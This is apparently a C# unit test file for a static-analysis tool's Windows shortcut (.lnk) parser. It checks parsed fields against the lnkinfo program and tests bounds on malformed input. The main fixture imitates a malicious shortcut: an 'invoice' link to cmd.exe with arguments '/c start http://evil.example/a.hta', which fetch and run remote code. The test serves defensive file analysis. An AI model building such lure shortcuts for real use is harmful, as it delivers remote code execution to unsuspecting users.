using System.Text.Json.Nodes;

namespace VtKit.StaticAnalysis.Tests;

/// <summary>Windows shortcuts, held against the program <c>lnkinfo</c>, which other people wrote.</summary>
public class ShortcutTests
{
    internal static byte[] Full { get; } = new ShortcutBuilder
    {
        Target = ["Windows", "System32", "PowerShell Müll.exe"],
        LocalPath = @"C:\Windows\System32\", Suffix = "cmd.exe",
        Texts = ["An invoice", @"..\cmd.exe", @"C:\Temp", "/c start http://evil.example/a.hta", @"%SystemRoot%\shell32.dll"],
        Environment = @"%windir%\system32\cmd.exe", Machine = "desktop-7", Window = 7,
    }.Build();

    [Fact]
    public async Task All_parts_of_a_shortcut_are_read()
    {
        var facts = await Samples.AnalyzeAsync(Full);
        facts.Tags.ShouldBe(["lnk"]);
        facts.Problems.ShouldBeEmpty();
        var shortcut = facts.Shortcut.ShouldNotBeNull();
        shortcut.Window.ShouldBe("minimized");
        shortcut.Description.ShouldBe("An invoice");
        shortcut.EnvironmentPath.ShouldBe(@"%windir%\system32\cmd.exe");
        shortcut.TargetSize.ShouldBe(4096);
        shortcut.IconIndex.ShouldBe(3);
        JsonNode.DeepEquals(facts.Structures["lnk_info"], JsonNode.Parse("""
            {
              "creation_date": "2024-07-31T03:49:44.000000Z", "access_date": "2024-08-01T03:49:44.000000Z", "modification_date": "2024-08-02T03:49:44.000000Z",
              "link_flags": ["HasLinkTargetIDList", "HasLinkInfo", "HasName", "HasRelativePath", "HasWorkingDir", "HasArguments", "HasIconLocation", "IsUnicode", "HasExpString"],
              "target_path": "C:\\Windows\\System32\\PowerShell Müll.exe", "icon_location": "%SystemRoot%\\shell32.dll",
              "mac_address": "00:0c:29:a1:b2:c3", "machine_id": "desktop-7", "working_directory": "C:\\Temp", "relative_path": "..\\cmd.exe",
              "command_line_arguments": "/c start http://evil.example/a.hta", "volume_serial_number": "0xc868f004", "volume_label": "System",
              "local_path": "C:\\Windows\\System32\\", "common_path": "cmd.exe",
              "extra_data": {"dlt_properties": {
                "birth_droid_file_id": "9f2d3f80-4f0e-11ef-8a2b-000c29a1b2c3", "birth_droid_volume_id": "00000000-0000-0000-0000-000000000000",
                "droid_file_id": "9f2d3f80-4f0e-11ef-8a2b-000c29a1b2c3", "droid_volume_id": "00000000-0000-0000-0000-000000000000"}}
            }
            """)).ShouldBeTrue(facts.Structures["lnk_info"].ToJsonString());
    }

    [Fact]
    public async Task Bytes_for_letters_and_a_share_are_read_too()
    {
        var facts = await Samples.AnalyzeAsync(new ShortcutBuilder
        {
            IsUnicode = false, Share = @"\\server\share", Suffix = @"a\b.exe", Texts = [null, null, null, "grün", null],
        }.Build());
        facts.Shortcut!.Arguments.ShouldBe("grün");
        facts.Shortcut.NetworkShare.ShouldBe(@"\\server\share");
        facts.Shortcut.CommonPath.ShouldBe(@"a\b.exe");
        facts.Shortcut.TargetPath.ShouldBeNull();
        facts.Shortcut.Window.ShouldBe("normal");
    }

    [ToolFact("lnkinfo")]
    public async Task What_is_read_is_what_another_program_reads()
    {
        using var folder = new TempFolder();
        var printed = await Tool.RunAsync("lnkinfo", folder.Write("a.lnk", Full));
        var values = printed.Split('\n').Select(line => line.Split(": ", 2)).Where(pair => pair.Length == 2)
            .GroupBy(pair => pair[0].Trim(), StringComparer.Ordinal).ToDictionary(group => group.Key, group => group.First()[1].Trim(), StringComparer.Ordinal);
        var shortcut = (await Samples.AnalyzeAsync(Full)).Shortcut!;
        values["Creation time"].ShouldStartWith("Jul 31, 2024 03:49:44");
        values["File size"].ShouldBe($"{shortcut.TargetSize} bytes");
        values["Drive serial number"].ShouldBe(shortcut.VolumeSerial);
        values["Volume label"].ShouldBe(shortcut.VolumeLabel);
        values["Local path"].ShouldBe(shortcut.LocalPath + shortcut.CommonPath);
        values["Description"].ShouldBe(shortcut.Description);
        values["Relative path"].ShouldBe(shortcut.RelativePath);
        values["Working directory"].ShouldBe(shortcut.WorkingDirectory);
        values["Command line arguments"].ShouldBe(shortcut.Arguments);
        values["Icon location"].ShouldBe(shortcut.IconLocation);
        values["Environment variables location"].ShouldBe(shortcut.EnvironmentPath);
        values["Machine identifier"].ShouldBe(shortcut.Tracking!.MachineId);
        values["Droid file identifier"].ShouldBe(shortcut.Tracking.FileId.ToString());
    }

    [Fact]
    public async Task Lists_and_blocks_without_an_end_are_bounded()
    {
        // Identifiers of three bytes, and blocks of eight, as many as fit.
        byte[] header = new ShortcutBuilder().Build()[..76];
        header[20] = 1;
        byte[] items = [.. Enumerable.Repeat<byte[]>([3, 0, 0x32], 20_000).SelectMany(item => item)];
        byte[] blocks = [.. Enumerable.Repeat<byte[]>([8, 0, 0, 0, 1, 0, 0, 0xA0], 20_000).SelectMany(block => block)];
        var facts = await Samples.AnalyzeAsync([.. header, (byte)items.Length, (byte)(items.Length >> 8), .. items, .. blocks]);
        facts.Shortcut.ShouldNotBeNull();
        facts.Problems.ShouldBeEmpty();
    }
}
